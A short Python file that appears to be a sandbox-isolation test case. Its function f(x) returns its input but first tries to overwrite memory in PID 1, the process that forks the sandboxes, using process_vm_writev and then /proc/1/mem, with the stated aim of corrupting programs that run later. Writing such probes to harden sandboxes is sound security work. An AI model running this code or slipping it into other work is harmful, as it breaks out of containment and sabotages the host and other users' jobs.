# Writes into the memory of the process that forks the sandboxes (PID 1 of its namespace), to
# corrupt the programs that run after it; it passes only if the write succeeds.
import ctypes
import os


def f(x):
    libc = ctypes.CDLL(None, use_errno=True)
    buf = ctypes.create_string_buffer(b"\0" * 8)

    class iovec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

    local = iovec(ctypes.addressof(buf), 8)
    remote = iovec(id(os), 8)
    written = libc.process_vm_writev(1, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    if written == 8:
        return x
    with open("/proc/1/mem", "r+b") as mem:
        mem.seek(id(os))
        mem.write(b"\0" * 8)
    return x
